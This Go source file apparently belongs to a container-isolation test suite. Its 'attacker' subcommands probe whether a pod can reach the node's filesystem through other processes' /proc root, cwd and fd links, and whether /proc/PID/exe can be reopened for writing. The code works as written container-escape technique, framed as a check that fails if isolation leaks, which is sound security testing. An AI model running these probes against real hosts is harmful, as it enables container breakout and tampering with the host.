package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func init() {
	register("procroot", procRoot)
	register("procexe", procExe)
}

// procRoot tries to reach the node's file MARKER through every other
// process of the pod: /proc/PID/root and /proc/PID/cwd followed by "..",
// and each open directory descriptor of /proc/PID/fd. It also tries to
// create a file next to the marker. It fails if any read or write gets
// through, and also if no other process was visible or none let it look
// at its root (then the attack was not tried).
//
//	attacker procroot /ABSOLUTE/PATH/OF/MARKER
func procRoot(args []string) error {
	if len(args) != 1 || !filepath.IsAbs(args[0]) {
		return errors.New("usage: procroot /ABSOLUTE/MARKER")
	}
	marker := args[0]
	up := strings.Repeat("../", 32)
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return err
	}
	self := os.Getpid()
	looked := 0
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self {
			continue
		}
		base := fmt.Sprintf("/proc/%d", pid)
		if _, err := os.ReadDir(base + "/root/"); err == nil {
			looked++
			fmt.Printf("pid %d: root is readable\n", pid)
		} else {
			fmt.Printf("pid %d: root: %v\n", pid, err)
		}
		starts := []string{base + "/root/", base + "/cwd/"}
		fds, _ := os.ReadDir(base + "/fd")
		for _, fd := range fds {
			starts = append(starts, base+"/fd/"+fd.Name()+"/")
		}
		for _, s := range starts {
			p := s + up + marker[1:]
			if data, err := os.ReadFile(p); err == nil {
				return fmt.Errorf("read the node's %s through %s: %q", marker, s, data)
			}
			w := s + up + marker[1:] + ".pwned"
			if f, err := os.OpenFile(w, os.O_CREATE|os.O_WRONLY|os.O_EXCL, 0o644); err == nil {
				f.Close()
				return fmt.Errorf("created a node file through %s", s)
			}
		}
	}
	if looked == 0 {
		return errors.New("no other process's root could be looked at: the attack was not tried")
	}
	fmt.Printf("looked at %d roots\n", looked)
	return nil
}

// procExe opens the executable of process PID through /proc/PID/exe and
// prints its device and inode ("exe dev:ino D:I") and whether it could be
// opened for writing. It fails only when the executable cannot be opened
// at all.
//
//	attacker procexe PID
func procExe(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: procexe PID")
	}
	p := "/proc/" + args[0] + "/exe"
	f, err := os.Open(p)
	if err != nil {
		return err
	}
	defer f.Close()
	var st unix.Stat_t
	if err := unix.Fstat(int(f.Fd()), &st); err != nil {
		return err
	}
	fmt.Printf("exe dev:ino %d:%d\n", st.Dev, st.Ino)
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
	if err == nil {
		w.Close()
		fmt.Println("exe writable")
	} else {
		fmt.Printf("exe not writable: %v\n", err)
	}
	return nil
}
